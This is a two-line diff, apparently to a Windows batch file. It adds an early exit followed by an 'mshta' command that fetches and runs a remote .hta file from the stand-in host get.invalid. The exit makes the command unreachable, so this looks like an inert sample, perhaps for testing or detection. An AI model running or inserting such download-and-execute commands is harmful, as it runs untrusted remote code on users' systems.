@@ -1,0 +1,2 @@
+@exit /b
+mshta https://get.invalid/x.hta
